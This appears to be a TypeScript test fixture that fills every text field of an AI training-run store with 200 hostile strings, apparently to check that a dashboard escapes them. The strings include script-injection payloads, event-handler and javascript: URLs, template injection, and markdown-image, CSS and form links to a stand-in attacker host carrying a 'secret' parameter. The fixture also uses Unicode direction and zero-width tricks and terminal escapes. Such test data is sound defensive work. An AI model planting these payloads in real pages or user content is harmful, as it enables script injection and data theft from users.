// 200 texts that try to become markup or code in a page, and a run that has them in every text column.
import type { Store } from '../../streams/core/ports.ts';

export const hostileRun = 'hostile-texts';
export const hostileEvaluation = 'hostile-evaluation';
/** Id of a run and of an evaluation. No address of a run accepts it, but lists show it. */
const hiddenName = 'run-\u202eexe\u200b';

const mark = 'globalThis.__hostile = 1';
const seeds: readonly string[] = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<svg onload="${mark}"><circle r=4></svg>`,
  `"><script>${mark}</script>`,
  `'-(${mark})-'`,
  `javascript:${mark}`,
  `<a href="javascript:${mark}">link</a>`,
  `<iframe srcdoc="<script>parent.__hostile = 1</script>"></iframe>`,
  `<style>@import 'https://evil.example/a.css';</style>`,
  `![image](https://evil.example/a.png?secret=1)`,
  `<link rel=stylesheet href=https://evil.example/b.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action=https://evil.example><button>go</button></form>`,
  `<object data=https://evil.example></object>`,
  `{{constructor.constructor('${mark}')()}}`,
  '${' + mark + '}',
  `</textarea></pre></script><script>${mark}</script>`,
  '\u202eexe.txt\u202c \u200bhidden\ufeff\u061c\u00ad\u034f\u180e\u2029\ufe0f\u{e0041}\u{e0100}',
  '\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  `{"__proto__": {"onerror": "${mark}"}, "html": "<b>bold</b>"}`,
];
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replace('GLOBALTHIS.__HOSTILE', 'globalThis.__hostile'),
  (text) => `plain ${text} plain`,
  (text) => `\n\n${text}\n`,
  (text) => `<!--${text}-->`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => text.replaceAll('<', '&lt;'),
  (text) => `${'a'.repeat(300)}${text}`,
  (text) => `<div>${text}</div>`,
  (text) => `\u0000${text}\u2028`,
];

/** Each seed in each wrapping. */
export const hostileTexts: readonly string[] = wraps.flatMap((wrap) => seeds.map(wrap));

/** A tool whose name is one of the texts. */
export const hostileTool = hostileTexts[1] ?? '';

/** One trajectory for each ten texts; its turns have them in their text, tool, arguments, result, error, and worker. */
export async function seedHostileRun(store: Store): Promise<void> {
  const at = '2026-11-20 08:00:00.000000';
  const textAt = (index: number): string => hostileTexts[index % hostileTexts.length] ?? '';
  const place = (offset: number) => ({ _topic: 'turnstream.rollouts', _partition: 0, _offset: offset, _timestamp: at });
  const turns = hostileTexts.map((text, index) => ({
    ...{
      run_id: hostileRun,
      group_id: `${hostileRun}-g${Math.floor(index / 20)}`,
      trajectory_id: `${hostileRun}-g${Math.floor(index / 20)}.${Math.floor(index / 10) % 2}`,
    },
    ...{ attempt: 0, turn: index % 10, sequence: index, purpose: 'train', worker_id: textAt(index + 3), question_id: `${hostileRun}-q0` },
    ...{
      policy_version_min: 0,
      policy_version_max: 0,
      text,
      tool: textAt(index + 1),
      tool_status: 'error',
      tool_error_type: textAt(index + 2),
    },
    ...{
      tool_arguments: text,
      tool_result: text,
      tool_result_chars: text.length,
      tool_item_urls: [text, textAt(index + 5)],
      tool_item_titles: [textAt(index + 6)],
      finish_reason: text,
      occurred_at: at,
      tool_started_at: at,
      ...place(index),
    },
  }));
  const trajectories = Array.from({ length: 20 }, (_, index) => ({
    ...{
      run_id: hostileRun,
      group_id: `${hostileRun}-g${Math.floor(index / 2)}`,
      trajectory_id: `${hostileRun}-g${Math.floor(index / 2)}.${index % 2}`,
      attempt: 0,
    },
    ...{
      purpose: 'train',
      worker_id: textAt(index + 3),
      question_id: `${hostileRun}-q0`,
      question: textAt(index),
      answer: textAt(index + 20),
    },
    ...{ status: 'answered', error: textAt(index + 40), reward: index / 20, turns: 10, version_first: 0, version_last: index },
    ...{ started_at: at, finished_at: '2026-11-20 08:01:00.000000', occurred_at: at, ...place(1_000 + index) },
  }));
  const letters = hostileTexts.slice(0, 50).map((text, index) => ({
    ...{ original_topic: 'rollouts', original_partition: 9, original_offset: index, original_timestamp: at, has_value: true },
    ...{
      original_value_base64: Buffer.from(text).toString('base64'),
      original_value_bytes: text.length,
      step: text,
      reason: 'undecodable',
    },
    ...{
      error: text,
      run_id: hostileRun,
      occurred_at: at,
      _topic: 'turnstream.dead-letters',
      _partition: 9,
      _offset: index,
      _timestamp: at,
    },
  }));
  await seedHostileSettings(store, textAt);
  await store.insert('turns', turns, 'hostile-turns');
  await store.insert('trajectories', trajectories, 'hostile-trajectories');
  await store.insert('dead_letter_events', letters, 'hostile-letters');
}

/** Settings of the run, a step of it, heartbeats, and an evaluation, with texts in all columns except slugs. */
async function seedHostileSettings(store: Store, textAt: (index: number) => string): Promise<void> {
  const at = '2026-11-20 08:00:00.000000';
  const place = (offset: number) => ({ _topic: 'turnstream.training', _partition: 8, _offset: offset, _timestamp: at });
  const settings = {
    dataset: textAt(1),
    algorithm: textAt(2),
    backend: textAt(3),
    learner: textAt(4),
    stale_policy: textAt(5),
    reason: textAt(6),
  };
  const started = { run_id: hostileRun, event: 'started', sequence: 0, previous_sha256: textAt(7), steps: 9, ...settings, at, ...place(0) };
  const steps = [1, 2].map((step) => ({
    ...{ run_id: hostileRun, step, sequence: step, previous_sha256: textAt(8), version_before: step - 1, version_after: step },
    ...{ batch_sha256: textAt(9), weights_sha256: textAt(10), optimizer_sha256: textAt(11), reward_mean: 0.5, at, ...place(step) },
  }));
  const beats = Array.from({ length: 40 }, (_, index) => ({
    ...{ run_id: hostileRun, worker_id: textAt(index), policy_version: 1, capacity: 2, running: 1, occurred_at: at, ...place(10 + index) },
  }));
  const evaluation = {
    evaluation_id: hostileEvaluation,
    run_id: hostileRun,
    dataset: textAt(12),
    split: textAt(13),
    questions: 20,
    samples: 1,
  };
  const scores = Array.from({ length: 20 }, (_, index) => ({
    ...{ evaluation_id: hostileEvaluation, run_id: hostileRun, question_id: textAt(index), content_id: textAt(index + 20), sample: 0 },
    ...{ trajectory_id: textAt(index + 40), attempt: 0, status: 'answered', f1: 0.5, occurred_at: at, ...place(200 + index) },
  }));
  await store.insert('run_events', [started, { ...started, run_id: hiddenName, ...place(3) }], 'hostile-settings');
  await store.insert('steps', steps, 'hostile-steps');
  await store.insert('heartbeats', beats, 'hostile-heartbeats');
  const hidden = { ...evaluation, evaluation_id: hiddenName, run_id: hiddenName };
  const events = ['started', 'completed'].flatMap((event, index) =>
    [evaluation, hidden].map((of, number) => ({ ...of, event, occurred_at: at, ...place(100 + 2 * index + number) })),
  );
  await store.insert('evaluation_events', events, 'hostile-evaluation');
  await store.insert('evaluation_scores', scores, 'hostile-scores');
}
